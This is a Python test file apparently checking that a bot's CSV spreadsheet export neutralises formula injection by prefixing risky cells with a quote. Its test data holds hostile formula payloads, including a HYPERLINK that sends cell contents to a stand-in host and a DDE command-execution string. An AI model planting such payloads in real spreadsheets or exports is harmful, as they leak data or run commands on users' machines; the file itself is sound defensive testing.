"""CSV a spreadsheet opens safely: formula cells guarded, read back as written."""

from __future__ import annotations

import csv
import io

import pytest

from bot.documents.spreadsheet import csv_bytes, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")',
    "=cmd|' /C calc'!A0",
    "+31 6 12345678",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Sanne de Vries", "Sanne de Vries"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
        (-3, "-3"),
        (2.5, "2.5"),
        ("https://t.me/school_bot?start=abc-_", "https://t.me/school_bot?start=abc-_"),
    ],
)
def test_other_cells_are_written_as_they_are(
    value: str | int | float | None, written: str
) -> None:
    assert safe_cell(value) == written


def test_a_file_reads_back_with_every_formula_guarded_and_excels_bom() -> None:
    rows = [
        (value, "x@school.example", "student", "https://t.me/b?start=-abc")
        for value in [*HOSTILE, "Emre Özdemir", 'Say "hi", then go']
    ]
    data = csv_bytes(("name", "email", "role", "invite_link"), rows)
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read[0] == ["name", "email", "role", "invite_link"]
    assert [row[0] for row in read[1:]] == [
        *("'" + value for value in HOSTILE),
        "Emre Özdemir",
        'Say "hi", then go',
    ]
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in read for cell in row
    )
    assert {row[3] for row in read[1:]} == {"https://t.me/b?start=-abc"}
